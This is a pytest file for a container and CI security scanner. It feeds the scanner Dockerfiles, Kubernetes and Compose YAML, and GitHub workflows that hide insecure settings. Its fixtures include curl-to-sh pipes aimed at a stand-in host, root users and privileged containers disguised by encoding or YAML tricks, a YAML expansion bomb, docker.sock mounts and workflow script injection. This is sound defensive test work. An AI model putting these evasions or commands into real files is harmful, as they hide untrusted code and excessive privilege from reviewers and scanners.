"""Attacks on the DevSecOps pipeline by files: what programs that use them read, and a scanner may not."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from story_world import shipworthy

PINNED = "FROM a@sha256:" + "0" * 64 + "\n"
POD = (
    "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - name: a\n    image: a\n"
    "    securityContext:\n"
)
ON = "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo "
BOMB = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{level}: &a{level} [{','.join([f'*a{level - 1}'] * 10)}]\n" for level in range(1, 12)
)
CASES: dict[str, tuple[str, str | bytes, str]] = {
    "a user in two lines": ("Dockerfile", f"{PINNED}USER ro\\\not\n", "dockerfile-root-user"),
    "another escape": ("Dockerfile", f"# escape=`\n{PINNED}USER ro`\not\n", "dockerfile-root-user"),
    "an escape that is escaped": (
        "Dockerfile", f"{PINNED}USER 1000\nRUN echo \\\\\nUSER root\n", "dockerfile-root-user"
    ),
    "a command in two lines": (
        "Dockerfile", f"{PINNED}USER 1\nRUN cu\\\nrl https://x.example | s\\\nh\n", "dockerfile-pipe-to-shell"
    ),
    "a comment between two lines": (
        "Dockerfile", f"{PINNED}USER 1\nRUN cu\\\n# USER 2\nrl https://x.example | sh\n", "dockerfile-pipe-to-shell"
    ),
    "a heredoc": ("Dockerfile", f"{PINNED}RUN <<E\ncurl https://x.example | sh\nE\n", "dockerfile-pipe-to-shell"),
    "a user in a heredoc": ("Dockerfile", f"{PINNED}USER root\nRUN <<E\nx\nUSER 1000\nE\n", "dockerfile-root-user"),
    "ONBUILD": ("Dockerfile", f"{PINNED}ONBUILD RUN curl https://x.example | sh\n", "dockerfile-pipe-to-shell"),
    "a frontend": ("Dockerfile", f"# syntax=evil.example/x\n{PINNED}", "dockerfile-frontend"),
    "a frontend behind another directive": (
        "Dockerfile", f"# check=skip=all\n#Syntax = evil.example/x\n{PINNED}", "dockerfile-frontend"
    ),
    "COPY of another image": ("Dockerfile", f"{PINNED}COPY --from=evil.example/x /y /y\n", "dockerfile-base-latest"),
    "COPY of another version": ("Dockerfile", f"{PINNED}COPY --from=evil:1 /y /y\n", "dockerfile-base-unpinned"),
    "a mount of another image": (
        "Dockerfile", f"{PINNED}RUN --mount=type=bind,from=evil.example/x,target=/x id\n", "dockerfile-base-latest"
    ),
    "a base as an argument": ("Dockerfile", "ARG B=evil:latest\nFROM $B\n", "dockerfile-base-latest"),
    "root as a number": ("Dockerfile", f"{PINNED}USER 00:0\n", "dockerfile-root-user"),
    "root as an argument": ("Dockerfile", f"{PINNED}ARG U=root\nUSER ${{U}}\n", "dockerfile-root-user"),
    "root as an outer argument": ("Dockerfile", f"ARG U=0\n{PINNED}ARG U\nUSER $U\n", "dockerfile-root-user"),
    "root as a variable": ("Dockerfile", f"{PINNED}ENV U=root\nUSER $U\n", "dockerfile-root-user"),
    "root in UTF-16": ("Dockerfile", "FROM a\nUSER root\n".encode("utf-16"), "dockerfile-root-user"),
    "root behind a mark and tabs": ("Dockerfile", f"\ufeff{PINNED}\tuser\troot\n", "dockerfile-root-user"),
    "a step with all rights": ("Dockerfile", f"{PINNED}RUN --security=insecure id\n", "dockerfile-privileged-step"),
    "a pod behind a mark": ("pod.yaml", f"\ufeff{POD}      privileged: true\n", "container-privileged"),
    "a pod with a tag": ("pod.yaml", f'{POD}      privileged: !!bool "true"\n', "container-privileged"),
    "a pod with an escaped key": ("pod.yaml", f'{POD}      "priv\\u0069leged": true\n', "container-privileged"),
    "a pod that says yes": ("pod.yaml", f"{POD}      privileged: yes\n", "container-privileged"),
    "a pod by a merge": (
        "pod.yaml", "x: &x {privileged: true}\n" + POD.rstrip() + " {<<: [{}, *x]}\n", "container-privileged"
    ),
    "a pod in the second document": ("pod.yaml", f"a: 1\n---\n{POD}      privileged: true\n", "container-privileged"),
    "a key twice": ("pod.yaml", f"{POD}      privileged: true\n      privileged: false\n", "unread"),
    "a bomb": ("pod.yaml", f"{BOMB}{POD}      privileged: true\n", "unread"),
    "a deep one": ("pod.yaml", POD + "      x: " + "[" * 20_000 + "]" * 20_000 + "\n", "unread"),
    "an anchor in itself": ("pod.yaml", f"{POD}      x: &x [*x]\n", "unread"),
    "a line separator": ("pod.yaml", f"# x\u2028y\n{POD}      privileged: true\n", "unread"),
    "compose by a merge": (
        "compose.yaml", "x-a: &a\n  privileged: true\nservices:\n  a:\n    <<: *a\n    image: a\n",
        "container-privileged",
    ),
    "compose, a service twice": (
        "compose.yaml", "services:\n  a: {image: a, privileged: true}\n  a: {image: a}\n", "unread"
    ),
    "the runtime's socket by a detour": (
        "compose.yaml", "services:\n  a:\n    image: a\n    volumes: ['/var/../var/run//docker.sock:/s']\n",
        "container-runtime-socket",
    ),
    "a workflow": (".github/workflows/a.yml", f"{ON}${{{{ github.event.pull_request.title }}}}\n",
                   "actions-script-injection"),
    "by an index": (".github/workflows/a.yml", f"{ON}${{{{ github['event']['pull_request']['title'] }}}}\n",
                    "actions-script-injection"),
    "in capitals": (".github/workflows/a.yml", f"{ON}${{{{ GitHub.Event.Pull_Request.Title }}}}\n",
                    "actions-script-injection"),
    "in a function": (".github/workflows/a.yml", f"{ON}${{{{ format('{{0}}', github.event.pull_request.title) }}}}\n",
                      "actions-script-injection"),
    "all of the event": (".github/workflows/a.yml", f"{ON}'${{{{ toJSON(github.event) }}}}'\n",
                         "actions-script-injection"),
    "over a variable": (
        ".github/workflows/a.yml",
        "env: {T: '${{ github.event.pull_request.title }}'}\n" + ON + "${{ env.T }}\n", "actions-script-injection",
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    """What one scan of all of them says of each."""
    root = tmp_path_factory.mktemp("files")
    for number, (name, content, _) in enumerate(CASES.values()):
        place = root / f"case{number:03}" / name
        place.parent.mkdir(parents=True)
        place.write_bytes(content if isinstance(content, bytes) else content.encode())
    told = json.loads(shipworthy("scan", str(root), "--format", "json", cwd=root).stdout)
    found: dict[str, set[str]] = {}
    pending: list[object] = [told]
    while pending:
        one = pending.pop()
        if isinstance(one, dict):
            at = one.get("artifact")
            uri = at.get("uri", "") if isinstance(at, dict) else str(at or "")
            rule = one.get("rule") or one.get("code")
            said = rule.get("id") if isinstance(rule, dict) else rule
            found.setdefault(uri[uri.find("case") :][:7], set()).add(str(said))
            pending += one.values()
        elif isinstance(one, list):
            pending += one
    return found


@pytest.mark.parametrize("what", CASES)
def test_it_is_seen_or_told_as_unread(scanned: dict[str, set[str]], what: str) -> None:
    number = list(CASES).index(what)
    assert CASES[what][2] in scanned.get(f"case{number:03}", set())


def test_the_model_is_not_the_whole_context(tmp_path: Path) -> None:
    from shipworthy.stages.dev import context

    class Job:
        root = tmp_path
        settings = type("S", (), {"image": type("I", (), {"model": "./"})})

        @staticmethod
        def detail(*_: str) -> dict[str, str]:
            return {"path": "model"}

    with pytest.raises(Exception, match="whole context"):
        context._model_place(Job, "")  # type: ignore[arg-type]
